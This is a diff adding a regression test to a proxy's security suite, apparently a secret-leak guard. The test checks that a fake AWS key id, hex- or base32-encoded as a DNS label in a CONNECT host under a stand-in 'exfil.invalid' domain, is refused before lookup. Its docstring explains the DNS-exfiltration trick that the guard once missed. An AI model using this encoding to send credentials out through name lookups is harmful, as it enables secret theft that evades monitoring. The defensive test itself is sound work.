@@ -147,3 +147,19 @@ def test_upstream_offers():
     assert hello.upstream_offers([b"x", b"http/1.0"], True) == [b"http/1.0"]
     assert hello.upstream_offers([b"h2"], False) is None
     assert hello.upstream_offers([b"grpc-exp", b"h2"], True) == [b"h2"]
+
+
+@pytest.mark.parametrize("spelling", ["hex", "HEX", "base32", "base32-lower"])
+async def test_a_key_encoded_in_the_connect_name_is_refused_before_it_is_resolved(use, spelling):
+    """attack16: a DNS label holds 63 characters: the hex (40) or base32 (32) of an AWS key id fits one, and the
+    proxy's lookup carried it out; the guard decodes these in a body but read the name as written."""
+    import base64
+
+    raw = fakes.aws_key_id().encode()
+    label = {"hex": raw.hex(), "HEX": raw.hex().upper(), "base32": base64.b32encode(raw).decode(),
+             "base32-lower": base64.b32encode(raw).decode().lower()}[spelling]
+    error = None
+    use("blocking")
+    error = await connect(hook_data(f"{label}.exfil.invalid"))
+    assert error is not None and "aws-access-key-id" in error and "refused" in error, error
+    assert label.lower() not in error.lower() and "could not be resolved" not in error
